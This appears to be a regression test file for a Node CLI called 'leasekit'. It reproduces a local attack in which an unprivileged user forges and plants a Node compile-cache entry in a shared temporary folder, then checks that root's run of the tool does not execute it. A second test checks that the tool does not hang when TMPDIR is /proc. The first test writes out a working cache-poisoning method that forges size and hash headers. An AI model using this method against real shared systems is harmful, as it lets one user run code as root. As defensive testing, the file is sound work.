/**
 * Review of issue 19 (footprint): the installed `leasekit` (the bundle, re-executed, with Node's
 * compile cache enabled by `bin.ts`) against what a CLI run by root on a shared machine must not
 * do — run code another local user wrote — and against temporary folders it cannot use.
 *
 * The attacker is an unprivileged user (`nobody`, through `setpriv`): the poisoning test needs root
 * to switch users (the project's machines run the suites as root). Both failed while `bin.ts`
 * enabled Node's compile cache in the temporary folder; it enables none now.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import * as ChildProcess from "node:child_process"
import * as Fs from "node:fs"
import * as Path from "node:path"
import * as Zlib from "node:zlib"
import { leasekit, makeTempDir } from "./leasekitProcess.ts"

/** The Node the `leasekit` wrapper runs (the workspace's), used by the attacker too. */
const node = Path.resolve(import.meta.dirname, "../../node_modules/.bin/node")
const nobody = 65534

/** Runs `node script args…` as `nobody`; fails the test when it fails. */
const asNobody = (script: string, args: ReadonlyArray<string>, cwd: string) => {
  const ran = ChildProcess.spawnSync(
    "setpriv",
    [`--reuid=${nobody}`, `--regid=${nobody}`, "--clear-groups", node, script, ...args],
    { cwd, encoding: "utf8", env: { PATH: process.env["PATH"] ?? "/usr/bin:/bin", HOME: cwd } }
  )
  if (ran.status !== 0) throw new Error(`as nobody: ${script} failed: ${ran.stdout}${ran.stderr}${ran.error ?? ""}`)
  return ran.stdout
}

describe("issue 19 review: the installed leasekit's compile cache", () => {
  it.live(
    "root's leasekit never runs code another local user planted in the shared temporary folder's compile cache",
    () =>
      Effect.gen(function*() {
        // A world-writable sticky folder, as /tmp is.
        const shared = yield* makeTempDir("leasekit-review19-shared-")
        Fs.chmodSync(shared, 0o1777)
        const probe = yield* makeTempDir("leasekit-review19-probe-")
        const attacker = yield* makeTempDir("leasekit-review19-attacker-")
        Fs.chownSync(attacker, nobody, nobody)

        // Where leasekit keeps the cache of its main chunk (the attacker can compute this from the
        // installed files and the Node version alone; reading Node's debug output is shorter).
        const probed = yield* leasekit(["--version"], { LEASEKIT_NODE: node, TMPDIR: probe, NODE_DEBUG_NATIVE: "COMPILE_CACHE" })
        assert.strictEqual(probed.code, 0, probed.stderr)
        const found = new RegExp(`reading cache from (${probe.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}/\\S+)/([0-9a-f]{8}) for ESM file://(\\S+/main-[A-Z0-9]+\\.js)`)
          .exec(probed.stderr)
        // Nothing cached under TMPDIR: nothing a local user can plant there.
        if (found === null) return
        const [, probeTagDir, key, victimFile] = found as unknown as [string, string, string, string]
        const tag = Path.relative(probe, probeTagDir) // node-compile-cache/v…-x64-…-<uid>
        const victim = Fs.readFileSync(victimFile, "utf8")

        // The attacker: a module of the same length as leasekit's main chunk, compiled into their
        // own cache with the same Node, then planted under the victim's key in the shared folder.
        const evil = Path.join(attacker, Path.basename(victimFile))
        const payload = `import { writeFileSync } from "node:fs"; writeFileSync(${JSON.stringify(Path.join(attacker, "ran-as-"))} + process.getuid(), "planted code ran"); //`
        Fs.writeFileSync(evil, `${payload}${"x".repeat(victim.length - payload.length - 1)}\n`)
        assert.strictEqual(Fs.readFileSync(evil, "utf8").length, victim.length)
        Fs.writeFileSync(
          Path.join(attacker, "compile.mjs"),
          `import * as M from "node:module"; M.enableCompileCache(${JSON.stringify(Path.join(attacker, "cache"))}); await import(${JSON.stringify(evil)})\n`
        )
        Fs.writeFileSync(
          Path.join(attacker, "plant.mjs"),
          `import * as Fs from "node:fs"; import * as Zlib from "node:zlib"; import * as Path from "node:path"
const [own, victimFile, target] = process.argv.slice(2)
const file = Fs.readFileSync(own)
const source = Fs.readFileSync(victimFile)
file.writeUInt32LE(source.length, 4) // code size
file.writeUInt32LE(Zlib.crc32(source), 12) // code hash: the victim's, so that Node takes the entry for its file
Fs.mkdirSync(Path.dirname(target), { recursive: true, mode: 0o777 })
Fs.writeFileSync(target, file)
`
        )
        for (const f of ["compile.mjs", "plant.mjs", Path.basename(evil)]) Fs.chownSync(Path.join(attacker, f), nobody, nobody)
        asNobody(Path.join(attacker, "compile.mjs"), [], attacker)
        const ownTagDir = Fs.readdirSync(Path.join(attacker, "cache"))[0]!
        const own = Fs.readdirSync(Path.join(attacker, "cache", ownTagDir)).map((f) => Path.join(attacker, "cache", ownTagDir, f))
          .find((f) => Fs.readFileSync(f).readUInt32LE(4) === victim.length)! // the evil module's entry (code size = the victim's)
        asNobody(Path.join(attacker, "plant.mjs"), [own, victimFile, Path.join(shared, tag, key)], attacker)
        assert.isFalse(Fs.existsSync(Path.join(attacker, "ran-as-0")))
        assert.strictEqual(Zlib.crc32(Fs.readFileSync(victimFile)), Zlib.crc32(Buffer.from(victim)), "the installed file is untouched")

        // The victim: root runs leasekit with TMPDIR the shared folder (as /tmp is by default).
        const ended = yield* leasekit(["--version"], { LEASEKIT_NODE: node, TMPDIR: shared })
        assert.isFalse(Fs.existsSync(Path.join(attacker, "ran-as-0")), "code planted by uid 65534 ran as root inside leasekit")
        assert.match(ended.stdout, /^leasekit v/, ended.stderr)
      }).pipe(Effect.scoped),
    60_000
  )

  it.live("leasekit --version ends when TMPDIR is a folder nothing can be created in (/proc)", () =>
    Effect.gen(function*() {
      // Was: Node's mkdir -p of the compile cache's folder loops forever (mkdir says ENOENT while
      // the parent exists), at full CPU, before leasekit prints anything.
      const ended = yield* leasekit(["--version"], { TMPDIR: "/proc" }, "20 seconds")
      assert.strictEqual(ended.code, 0, ended.stderr)
      assert.match(ended.stdout, /^leasekit v/)
    }).pipe(Effect.scoped), 60_000)
})

